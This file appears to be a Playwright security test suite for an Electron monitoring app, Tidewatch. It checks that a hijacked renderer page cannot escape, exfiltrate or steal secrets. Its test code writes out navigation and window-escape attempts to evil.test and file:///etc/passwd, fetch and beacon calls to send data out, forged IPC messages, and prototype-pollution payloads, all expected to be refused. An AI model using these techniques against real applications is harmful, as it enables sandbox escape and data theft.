import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, test, type Page } from '@playwright/test';
import { buildDesktop } from '../../electron/cli/build-desktop.ts';
import { everythingBelow, leakFinder } from '../support/canaries.ts';
import { runShellToEnd, shellKind, startShell, type DesktopShell } from '../support/desktop-shell.ts';
import { echoingSource, type EchoName } from '../support/echoing-source.ts';
import { heapText } from '../support/heap-text.ts';
import { startScriptedServer, type ScriptedServer } from '../support/scripted-server.ts';

// What a script does that has got into the page, all the same: it runs in the page's own world, as the page's own would.
test.describe.configure({ timeout: 60_000, mode: 'serial' });

const secrets = { PROM_TOKEN: 'canary/heap+"5e1f"&90=', VIEWER: 'canary-viewer-71aa/c=' };

let folder = '';
let source: ScriptedServer;
let way: EchoName = 'success';
let shell: DesktopShell;
let page: Page;
let address = '';

type Taken = { taken: { port: MessagePort } };

test.beforeAll(async () => {
  // It may be the first that needs the three bundles.
  test.setTimeout(180_000);
  const main = await buildDesktop();
  folder = mkdtempSync(join(tmpdir(), 'tidewatch-taken-over-'));
  source = await startScriptedServer(echoingSource(() => way));
  const config = join(folder, 'tidewatch.yaml');
  const settings = {
    promotion: join(import.meta.dirname, '../../resources/sample/promotion.yaml'),
    sources: [
      {
        id: 'canary-source',
        kind: 'prometheus',
        url: source.url,
        every: '1s',
        auth: { bearer: { secret: 'PROM_TOKEN' } },
      },
    ],
    links: { hosts: ['wiki.example.com'] },
  };
  writeFileSync(config, JSON.stringify(settings));
  const data = join(folder, 'data');
  shell = await startShell({
    main,
    args: ['--data', data, '--config', config],
    environment: await keptSafely(main, data),
  });
  page = shell.page;
  await page.addInitScript(() => {
    window.addEventListener('message', ({ data, ports: [port] }) => {
      if (data === 'tidewatch:port' && port !== undefined) Object.assign(window, { taken: { port } });
    });
  });
  await page.waitForURL(`${shell.origin}/index.html**`);
  await page.reload();
  await open('#/sources');
});
test.afterAll(async () => {
  await shell.kill();
  await source.stop();
  rmSync(folder, { recursive: true, force: true, maxRetries: 5 });
});

/** Puts the secrets into the safe storage; the key store of a real machine is left alone, there they are in the environment. @returns the shell's. */
async function keptSafely(main: string, data: string): Promise<Record<string, string>> {
  const given = Object.fromEntries(
    Object.entries(secrets).map(([name, value]) => [`TIDEWATCH_SECRET_${name}`, value]),
  );
  if (shellKind === 'real Electron') return given;
  const keyStore = { ELECTRON_DOUBLE_KEY_STORE: 'gnome_libsecret' };
  const names = Object.keys(secrets).flatMap((name) => ['--keep-secret', name]);
  const kept = await runShellToEnd({
    main,
    args: ['--data', data, ...names],
    environment: { ...given, ...keyStore },
  });
  expect(kept).toMatchObject({ exitCode: 0, output: expect.stringContaining('PROM_TOKEN') });
  return keyStore;
}

const board = () => page.getByText('canary-source').first();

async function open(hash: string): Promise<void> {
  await page.evaluate((to) => (location.hash = to), hash);
  await expect(board()).toBeVisible();
  address = page.url();
}

/** The page is the same one, at the same place, alive, alone, and nothing was handed to the system. */
async function expectUnmoved(): Promise<void> {
  await expect(board()).toBeVisible();
  expect(page.url()).toBe(address);
  const outside = await shell.evaluate(({ BrowserWindow, shell: system }) => ({
    windows: BrowserWindow.getAllWindows().length,
    opened: 'opened' in system ? system.opened : [],
  }));
  expect(outside).toEqual({ windows: 1, opened: [] });
}

const told = (what: string) => expect.poll(() => shell.output()).toContain(`refused the page a ${what}`);

test('it cannot leave, by any address and any way', async () => {
  const tried = await page.evaluate(async (origin) => {
    const html = '<script>parent.left = top.left = window.left = true</script>';
    const addresses = [
      'https://evil.test/',
      `${origin}.evil.test/index.html`,
      `${origin}@evil.test/index.html`,
      `${origin}:8443/index.html`,
      `${origin}/other.html`,
      'app://tidewatch.evil/index.html',
      'file:///etc/passwd',
      `data:text/html,${html}`,
      'javascript:window.left = true',
      'view-source:https://evil.test/',
      'tidewatch://board/capacity',
    ];
    const thrown: string[] = [];
    const attempt = (act: () => void) => {
      try {
        act();
      } catch (failure) {
        thrown.push(String(failure));
      }
    };
    for (const to of addresses) {
      attempt(() => (location.href = to));
      attempt(() => location.replace(to));
      for (const target of ['_self', '_top', '_blank']) {
        const link = Object.assign(document.createElement('a'), { href: to, target });
        document.body.append(link);
        attempt(() => link.click());
        link.remove();
      }
      attempt(() => void window.open(to, 'evil', 'popup,nodeIntegration=yes,sandbox=no'));
      for (const method of ['get', 'post']) {
        const form = Object.assign(document.createElement('form'), { action: to, method });
        document.body.append(form);
        attempt(() => form.submit());
        form.remove();
      }
      const frame = Object.assign(document.createElement('iframe'), { src: to });
      document.body.append(frame);
      // Whatever of all that was begun has been asked for by then.
      await new Promise((resolve) => setTimeout(resolve, 30));
      frame.remove();
    }
    const refresh = Object.assign(document.createElement('meta'), {
      httpEquiv: 'refresh',
      content: '0;url=https://evil.test/',
    });
    document.head.append(refresh);
    const view = document.createElement('webview');
    view.setAttribute('src', 'https://evil.test/');
    document.body.append(view);
    await new Promise((resolve) => setTimeout(resolve, 50));
    view.remove();
    return { left: 'left' in window, tries: addresses.length };
  }, shell.origin);
  expect(tried).toEqual({ left: false, tries: 11 });
  await expectUnmoved();
  await told('navigation');
  await told('window');
});

test('from a page of nothing, where it can go without being asked, it is brought back', async () => {
  const returned = page.waitForEvent('framenavigated', (frame) => frame.url().endsWith('/index.html'));
  await page.evaluate(() => (location.href = 'about:blank')).catch(() => undefined);
  await returned;
  await expect(page.getByRole('navigation').first()).toBeVisible();
  await open('#/sources');
  await expectUnmoved();
});

test('a link outside opens at a configured host alone', async () => {
  test.skip(shellKind === 'real Electron', 'the browser of the machine would open');
  await page.evaluate(() => {
    for (const to of [
      'https://wiki.example.com.evil.test/',
      'https://wiki.example.com@evil.test/',
      'https://evil.test/#wiki.example.com',
      'http://wiki.example.com/',
      'https://wiki.example.com:444/',
    ])
      window.open(to);
  });
  await expectUnmoved();
  await page.evaluate(() => void window.open('https://wiki.example.com/runbook?id=PLN-014#top'));
  const opened = () => shell.evaluate(({ shell: system }) => ('opened' in system ? system.opened : []));
  await expect.poll(opened).toEqual(['https://wiki.example.com/runbook?id=PLN-014#top']);
  await shell.evaluate(
    ({ shell: system }) => void ('opened' in system && Object.assign(system, { opened: [] })),
  );
  await expectUnmoved();
});

test('it gets no permission, device, file or picture of the screen', async () => {
  const got = await page.evaluate(async () => {
    const names = ['geolocation', 'camera', 'microphone', 'midi', 'clipboard-read'] as PermissionName[];
    const states = await Promise.all(
      names.map(async (name) => (await navigator.permissions.query({ name })).state),
    );
    const given = async (ask: () => unknown) => {
      // A window without a screen has no chooser, so that some are never answered.
      const patience = new Promise((resolve) => setTimeout(resolve, 300));
      try {
        const got = await Promise.race([ask(), patience]);
        return got === undefined || (Array.isArray(got) && got.length === 0) ? 'nothing' : 'given';
      } catch {
        return 'refused';
      }
    };
    // Not all are in the types of the DOM.
    const more = navigator as unknown as Record<
      string,
      Record<string, (options?: object) => Promise<unknown>> | undefined
    >;
    const picker = window as unknown as { showOpenFilePicker?(): Promise<unknown> };
    return {
      states,
      clipboard: await given(() => navigator.clipboard.readText()),
      camera: await given(() => navigator.mediaDevices.getUserMedia({ video: true, audio: true })),
      screen: await given(() => navigator.mediaDevices.getDisplayMedia()),
      usb: await given(() => more['usb']?.['requestDevice']?.({ filters: [] })),
      hid: await given(() => more['hid']?.['requestDevice']?.({ filters: [] })),
      serial: await given(() => more['serial']?.['requestPort']?.()),
      bluetooth: await given(() => more['bluetooth']?.['requestDevice']?.({ acceptAllDevices: true })),
      files: await given(() => picker.showOpenFilePicker?.()),
    };
  });
  expect(got.states).toEqual(['denied', 'denied', 'denied', 'denied', 'denied']);
  for (const [what, outcome] of Object.entries(got))
    if (what !== 'states') expect(outcome, what).not.toBe('given');
});

test('it reaches no address, even where its policy would be got round', async () => {
  const devTools = await page.context().newCDPSession(page);
  await devTools.send('Page.setBypassCSP', { enabled: true });
  await page.reload();
  await expect(board()).toBeVisible();
  const got = await page.evaluate(
    async (port) => {
      const load = (element: HTMLElement, attribute: string, to: string) =>
        new Promise((resolve) => {
          element.addEventListener('load', () => resolve('loaded'));
          element.addEventListener('error', () => resolve('refused'));
          element.setAttribute(attribute, to);
          document.body.append(element);
        });
      const server = `http://127.0.0.1:${port}/`;
      return {
        server: await fetch(server, { mode: 'no-cors' }).then(
          () => 'loaded',
          () => 'refused',
        ),
        elsewhere: await fetch('https://evil.test/?all=1').then(
          () => 'loaded',
          () => 'refused',
        ),
        script: await load(document.createElement('script'), 'src', `${server}x.js`),
        image: await load(document.createElement('img'), 'src', `${server}x.png`),
        sent: navigator.sendBeacon(server, 'all'),
      };
    },
    Number(new URL(source.url).port),
  );
  expect(got).toMatchObject({ server: 'refused', elsewhere: 'refused', script: 'refused', image: 'refused' });
  await told('request');
  expect(source.requests.filter(({ headers }) => 'origin' in headers || 'sec-fetch-mode' in headers)).toEqual(
    [],
  );
  await devTools.send('Page.setBypassCSP', { enabled: false });
  await page.reload();
  await expect(board()).toBeVisible();
});

test('it gets no second way to the console, from no frame and not with the preload script’s own means', async () => {
  test.skip(
    shellKind === 'real Electron',
    'what a preload script can do is reached through the double’s own binding',
  );
  const devTools = await page.context().newCDPSession(page);
  const before = shell.output().length;
  await page.evaluate(() => {
    for (const [name, value] of [
      ['srcdoc', '<p>inside</p>'],
      ['src', 'about:blank'],
    ] as const) {
      const frame = document.createElement('iframe');
      frame.setAttribute(name, value);
      document.body.append(frame);
    }
  });
  type Tree = { frame: { id: string }; childFrames?: Tree[] };
  const tree = async () => {
    const { frameTree } = (await devTools.send('Page.getFrameTree')) as { frameTree: Tree };
    return [frameTree.frame.id, ...(frameTree.childFrames ?? []).map(({ frame }) => frame.id)];
  };
  await expect.poll(async () => (await tree()).length).toBe(3);
  const forged = {
    is: 'message',
    channel: 'tidewatch:port',
    message: { sandboxed: true, contextIsolated: true },
    ports: [99],
  };
  for (const frameId of await tree()) {
    const { executionContextId: contextId } = await devTools.send('Page.createIsolatedWorld', {
      frameId,
      worldName: 'Electron Isolated Context',
    });
    const expression = `__toMainProcess(${JSON.stringify(JSON.stringify(forged))})`;
    const { exceptionDetails } = await devTools.send('Runtime.evaluate', { expression, contextId });
    expect(exceptionDetails).toBeUndefined();
  }
  await told('port');
  expect(shell.output().length).toBeGreaterThan(before);
  await page.reload();
  await expect(board()).toBeVisible();
});

test('its messages change nothing but what the contract lets them', async () => {
  await page.evaluate(() => {
    const { port } = (window as unknown as Taken).taken;
    const call = (path: string, input: string) =>
      `{"i":"evil-${Math.random()}","p":{"u":"${path}","b":{"json":${input}}}}`;
    const poison = '{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},"planId":"PLN-1"}';
    for (const path of [
      '/__proto__/polluted',
      '/constructor/prototype',
      '/toString',
      '/executions/start',
      '/../x',
      '//evil.test/',
    ])
      port.postMessage(call(path, poison));
    port.postMessage('{"i":"__proto__","t":3,"p":{"__proto__":{"polluted":1}}}');
    port.postMessage({ i: '1', p: { u: '/console/status' } });
    port.postMessage(null);
    port.postMessage(`{"i":"1","p":{"u":"/console/status","b":"${'x'.repeat(4_000_000)}"}}`);
  });
  await told('port');
  // What was asked after all of them is answered.
  await page.reload();
  await expect(board()).toBeVisible();
  expect(await shell.evaluate(() => 'polluted' in {})).toBe(false);
  await expectUnmoved();
});

test('what was refused is in the log', () => {
  const kept = everythingBelow(join(folder, 'data'));
  for (const what of ['navigation', 'window', 'request', 'port'])
    expect(kept).toMatch(new RegExp(`page\\.refused[^\\n]{0,80}"what":"${what}"`));
});

test('no secret is in what is copied as diagnostics', async () => {
  const leaksIn = leakFinder(secrets);
  const copied = () => shell.evaluate(({ clipboard }) => clipboard.readText());
  await shell.evaluate(({ Menu }) => {
    // The box that shows it waits for a person on real Electron: only the copy is looked at.
    const found = Menu.getApplicationMenu()
      ?.items.flatMap(({ submenu }) => submenu?.items ?? [])
      .find(({ label }) => /diagnostics|诊断信息/i.test(label));
    if (found === undefined) throw new Error('the menu copies no diagnostics');
    Reflect.apply(found.click, found, []);
  });
  await expect.poll(copied).toContain('canary-source (prometheus)');
  expect(leaksIn(await copied())).toEqual([]);
});

test('no secret is in its memory, however its source repeats it', async () => {
  // Tens of megabytes of memory are read over DevTools.
  test.setTimeout(120_000);
  const leaksIn = leakFinder(secrets);
  await open('#/sources');
  // A source that fails rests longer each time, so a few ways stand here for all: canary.test.ts goes through every one.
  for (const next of ['success that escapes every letter', 'an error with a 400'] as const) {
    way = next;
    const before = source.requests.length;
    await expect.poll(() => source.requests.length, { timeout: 20_000 }).toBeGreaterThan(before + 1);
  }
  // A secret that is put there is found, so that the search is shown to find.
  const planted = 'canary-planted-in-the-page/8b=';
  await page.evaluate((secret) => Object.assign(window, { kept: { secret } }), planted);
  const heap = await heapText(page);
  expect(leakFinder({ planted })(heap)).not.toEqual([]);
  expect(heap).toContain('canary-source');
  // The source was really shown the secret.
  expect(leaksIn(JSON.stringify(source.requests.map(({ headers }) => headers)))).not.toEqual([]);
  expect(leaksIn(heap)).toEqual([]);
  expect(leaksIn(shell.output())).toEqual([]);
  expect(leaksIn(everythingBelow(join(folder, 'data')))).toEqual([]);
});
